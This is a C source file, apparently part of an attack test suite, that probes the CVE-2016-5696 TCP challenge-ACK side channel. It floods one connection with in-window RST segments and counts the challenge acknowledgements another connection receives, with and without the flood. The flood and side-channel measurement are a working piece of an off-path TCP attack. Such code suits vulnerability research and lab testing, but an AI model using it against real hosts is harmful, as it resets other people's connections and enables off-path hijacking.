/*
 * The side channel of CVE-2016-5696: does a flood of one connection take the challenge
 * acknowledgements away from another?
 */
#include <stdio.h>
#include <stdlib.h>

#include "tests/attack/watch.h"

#define GAP_MS 700u      /* between questions: a connection answers one in 500 ms */
#define STEP_MS 10u
#define ASK_AGAIN 5u     /* a question or its answer may be lost */

/* A bare acknowledgement to the connection, of which nothing else says any. */
static bool
is_answer(const struct raw *r, const struct watch *w, const struct raw_seg *s)
{
	return s->from == r->victim && s->to_port == w->port && s->data_len == 0 && s->flags == RAW_ACK;
}

static void
reset_inside(struct raw *r, const struct watch *w)
{
	struct raw_seg s = watch_segment(r, w);

	s.flags = RAW_RST;
	s.seq = watch_inside(r, w);
	raw_tcp(r, &s);
}

/* For `ms`, with a flood of `flooded` or without: answers to the other. */
static uint32_t
listen_for(struct raw *r, struct watch *asked, struct watch *flooded, bool flood, uint32_t ms)
{
	uint64_t end = raw_now_ms() + ms;
	uint32_t answers = 0;
	uint8_t buf[RAW_FRAME];
	struct raw_seg s;
	bool sent;

	while (raw_now_ms() < end) {
		uint32_t n;

		for (uint32_t i = 0; flood && i < RAW_BATCH; i++)
			reset_inside(r, flooded);
		raw_flush(r);
		for (int wait = STEP_MS; (n = raw_recv(r, buf, sizeof(buf), wait, &sent)) > 0; wait = 0) {
			if (!raw_read(buf, n, &s))
				continue;
			answers += is_answer(r, asked, &s);
			watch_see(r, asked, &s);
			watch_see(r, flooded, &s);
		}
	}
	return answers;
}

/* Questions that were answered, of `count`; what is lost is asked again. */
static uint32_t
ask(struct raw *r, struct watch *asked, struct watch *flooded, bool flood, uint32_t count, uint32_t *most)
{
	uint32_t answered = 0;

	for (uint32_t i = 0; i < count; i++) {
		uint32_t got = 0;

		for (uint32_t n = 0; n < ASK_AGAIN && got == 0; n++) {
			reset_inside(r, asked);
			got = listen_for(r, asked, flooded, flood, GAP_MS);
		}
		answered += got > 0;
		*most = got > *most ? got : *most;
	}
	return answered;
}

int
attack_side(struct raw *r, char **arg)
{
	uint32_t count = (uint32_t)strtoul(arg[0], NULL, 10);
	struct watch asked = { 0 }, flooded = { 0 };
	uint32_t calm, under, most = 0;

	if (!watch_begin(r, &asked, arg[1]) || !watch_begin(r, &flooded, arg[2]))
		return 1;
	calm = ask(r, &asked, &flooded, false, count, &most);
	under = ask(r, &asked, &flooded, true, count, &most);
	printf("calm %u under %u most %u sent %llu\n", calm, under, most, (unsigned long long)r->sent);
	return 0;
}
